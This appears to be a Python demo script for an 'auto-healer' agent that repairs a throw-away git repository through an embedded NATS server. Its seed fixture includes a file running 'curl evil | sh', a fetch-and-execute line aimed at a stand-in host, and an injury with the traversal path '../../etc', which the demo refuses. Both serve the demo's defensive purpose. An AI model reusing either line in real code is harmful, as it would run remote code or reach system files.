"""`auto-healer demo`: the whole loop on a throw-away repository and an embedded NATS server.

A new user sees, in a few seconds: the dry-run plan; the agent starting on the embedded
JetStream server; bee-keeper-style injuries published; the repository healed through its
remote; an escalation and a refused traversal; the outcome events as the Hive sees them.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any

from auto_healer.checkout import Checkout, Identity
from auto_healer.contracts import ParsedInjury, parse_injury_obj
from auto_healer.embedded import NatsServer
from auto_healer.healer import Healer
from auto_healer.logs import configure_logging
from auto_healer.playbooks import load_playbooks
from auto_healer.report import render
from auto_healer.settings import Settings, load_settings

SEED = {
    "pyproject.toml": '[project]\nname = "hive-core"\nversion = "0.1.0"\n',
    "core/src/app.py": 'def greet(name: str) -> str:\n    return f"hello {name}"\n',
    "core/src/messy.py": "def  add( a,b ):\n  return a+b\nx = {  'a':1 }\n",
    "core/src/random_stuff/hack.py": "import os\nos.system('curl evil | sh')\n",
    "core/src/random_stuff/notes.txt": "not supposed to be here\n",
}


def demo_injuries() -> list[dict[str, object]]:
    base = {"timestamp": time.time(), "severity": "high"}
    return [
        {
            **base,
            "injury_type": "unauthorized_directory",
            "affected_path": "core/src/random_stuff/",
            "recommended_action": "delete_directory",
            "auto_heal": True,
        },
        {
            **base,
            "injury_type": "unformatted_code",
            "affected_path": "core/src/messy.py",
            "recommended_action": "format_code",
            "auto_heal": True,
            "severity": "low",
        },
        {
            **base,
            "injury_type": "unauthorized_directory",
            "affected_path": "core/src/legacy/",
            "recommended_action": "delete_directory",
            "auto_heal": False,
        },
        {
            **base,
            "injury_type": "unauthorized_directory",
            "affected_path": "../../etc",
            "recommended_action": "delete_directory",
            "auto_heal": True,
            "severity": "critical",
        },
    ]


def make_repo(root: Path, files: dict[str, str] = SEED) -> tuple[Path, Path]:
    """A bare remote and a clone of it holding `files`, one commit on `main`."""
    remote, work = root / "remote.git", root / "work"
    _git(root, "init", "-q", "--bare", "-b", "main", str(remote))
    _git(root, "clone", "-q", str(remote), str(work))
    for rel, text in files.items():
        (work / rel).parent.mkdir(parents=True, exist_ok=True)
        (work / rel).write_text(text)
    _git(work, "checkout", "-q", "-B", "main")
    _git(work, "add", "-A")
    _git(
        work,
        "-c",
        "user.name=bee-keeper",
        "-c",
        "user.email=bee@aura.hive",
        "commit",
        "-q",
        "-m",
        "seed the hive",
    )
    _git(work, "push", "-q", "origin", "main")
    return remote, work


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, check=True, capture_output=True, text=True
    ).stdout


def _show_event(msg: Any) -> None:
    event = json.loads(msg.data)
    meta = event.get("metadata", {})
    where = (meta.get("injury") or {}).get("affected_path", "?")
    print(f"  {msg.subject:<40} {where:<24} {meta.get('reason', '')}", flush=True)


async def _plan(settings: Settings, work: Path, injuries: list[ParsedInjury]) -> None:
    checkout = Checkout.open(work, identity=Identity())
    try:
        healer = Healer(load_playbooks(settings.playbooks_dir), checkout, dry_run=True)
        outcomes = [await healer.handle(i) for i in injuries]
    finally:
        checkout.close()
    print(render(outcomes, "text", escalations_to="this report (no pager set)"))


async def _loop(settings: Settings, tmp: Path, remote: Path, injuries: list[ParsedInjury]) -> None:
    from auto_healer.bloodstream import connect
    from auto_healer.service import serve
    from auto_healer.tools import publish_injuries

    with NatsServer(tmp / "nats") as server:
        print(
            f"\n==> 2. the agent on an embedded NATS server at {server.url}, "
            f"healing {remote} through a clone of its own\n"
        )
        agent_settings = settings.model_copy(
            update={
                "nats_url": server.url,
                "repo_url": str(remote),
                "repo_path": None,
                "jetstream": True,
                "work_dir": tmp / "agent",
                "dry_run": False,
            }
        )
        stop = asyncio.Event()
        agent = asyncio.create_task(serve(agent_settings, install_signals=False, stop=stop))
        nc = await connect(agent_settings.nats, server.url, name="auto-healer-demo")
        seen = asyncio.Event()
        count = 0

        async def on_event(msg: Any) -> None:
            nonlocal count
            _show_event(msg)
            count += 1
            if count >= len(injuries):
                seen.set()

        await nc.subscribe("aura.hive.events.>", cb=on_event)
        await asyncio.sleep(1.0)  # let the agent subscribe; JetStream would keep them anyway
        print(f"  publishing {len(injuries)} injuries on aura.hive.injury, as bee-keeper does\n")
        await publish_injuries(agent_settings, server.url, injuries, msg_id=True)
        try:
            await asyncio.wait_for(seen.wait(), 60)
        finally:
            await nc.drain()
            stop.set()
            await agent


def run_demo(settings: Settings) -> int:
    configure_logging(settings.log_format, "warning")  # the report is the story here
    load_playbooks(settings.playbooks_dir)  # fail early, with file and line
    with tempfile.TemporaryDirectory(prefix="auto-healer-demo-") as tmp_name:
        tmp = Path(tmp_name)
        remote, work = make_repo(tmp)
        injuries = [parse_injury_obj(i) for i in demo_injuries()]
        print("==> 1. dry-run: the plan for four injuries, nothing touched\n")
        asyncio.run(_plan(settings, work, injuries))
        asyncio.run(
            _loop(load_settings(playbooks_dir=settings.playbooks_dir), tmp, remote, injuries)
        )
        print("\n==> 3. the remote's history: an Injury-Id for each heal\n")
        print(_git(remote, "log", "--format=%h %an: %s%n%(trailers:only,unfold)", "main").strip())
        print("\n==> 4. the remote's tree: random_stuff/ is gone, messy.py formatted\n")
        print(_git(remote, "ls-tree", "-r", "--name-only", "main").strip())
        print("\nNext: `auto-healer run` (agent), `auto-healer heal FILE --dry-run` (one-shot).")
    return 0
